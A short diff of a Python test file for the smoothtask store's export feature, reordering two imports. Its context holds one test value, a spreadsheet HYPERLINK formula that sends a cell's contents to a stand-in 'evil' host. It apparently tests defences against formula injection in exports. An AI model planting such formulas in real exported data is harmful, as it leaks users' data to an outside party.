@@ -9,14 +9,14 @@ from pathlib import Path
 import pytest
 from pyarrow import parquet
 from sqlmodel import func, select
-from store.conftest import Place
-from store.frames import BUSY, FIREFOX, NOON, frame, group, process, shown
 
 from smoothtask.model.classes import PriorityClass
 from smoothtask.store.export import TABLES, Format, export
 from smoothtask.store.labels import read_labels
 from smoothtask.store.reading import StoreError, open_for_reading
 from smoothtask.store.tables import SnapshotRow
+from store.conftest import Place
+from store.frames import BUSY, FIREFOX, NOON, frame, group, process, shown
 
 FORMULA = '=HYPERLINK("http://evil/"&A1)'
 
